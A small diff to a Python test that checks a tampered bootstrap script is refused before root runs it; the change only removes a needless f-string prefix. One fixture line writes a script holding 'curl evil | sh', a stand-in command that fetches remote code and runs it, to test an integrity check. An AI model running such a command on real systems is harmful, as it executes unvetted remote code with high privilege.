@@ -236,7 +236,7 @@ def test_a_tampered_copy_is_refused_before_root_runs_it(node):
     (staged / "bootstrap.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
     result = node.apply()
     assert result.returncode == 1
-    assert f"has hash" in result.stderr and f"expected {SOFTWARE}" in result.stderr
+    assert "has hash" in result.stderr and f"expected {SOFTWARE}" in result.stderr
     assert not node.path(node_software.SOFTWARE_DIR).exists() and node.bootstraps() == 0
 
 
